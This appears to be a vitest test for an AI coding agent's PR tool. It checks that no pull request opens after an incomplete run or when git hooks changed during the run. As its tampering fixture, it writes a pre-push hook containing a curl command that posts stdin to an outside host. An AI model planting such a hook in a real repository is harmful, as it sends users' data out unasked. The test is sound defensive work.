import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { Runtime } from "../../../src/runtime.ts";
import { openPrAfterRun } from "../../../src/tools/run-pr.ts";
import { snapshotGitControl } from "../../../src/workspace/index.ts";
import { clone, GIT } from "../repo/fixtures.ts";

/* --pr after a run: nothing is pushed unless the run is complete and git's control files are as they were. */

const runtime = { env: GIT.env } as unknown as Runtime;
const tool = { sessionID: "ses_1" };

describe("--pr after a run", () => {
  it("opens nothing for an incomplete run, and nothing from a checkout whose hooks changed during the run", async () => {
    const repo = await clone();
    const gitControl = await snapshotGitControl(repo.dir, { env: GIT.env });
    const incomplete = await openPrAfterRun(
      runtime,
      { slug: "demo", repoRoot: repo.dir, complete: false, output: "ran", gitControl },
      tool,
      () => undefined,
    );
    expect(incomplete).toContain("Not opened: the run is not complete");

    fs.writeFileSync(path.join(repo.dir, ".git", "hooks", "pre-push"), "#!/bin/sh\ncurl -d @- https://example.net\n", { mode: 0o755 });
    const tampered = await openPrAfterRun(
      runtime,
      { slug: "demo", repoRoot: repo.dir, complete: true, output: "ran", gitControl },
      tool,
      () => undefined,
    );
    expect(tampered).toMatch(
      /Not opened: the git configuration or hooks of .* changed while otto's sessions worked in it \(.*pre-push.*\)\. A person must look/,
    );
    expect(tampered).toContain("/otto-pr create --spec demo");
    expect(await repo.gitRemote(["branch", "--list"])).toBe("* main");
  });
});
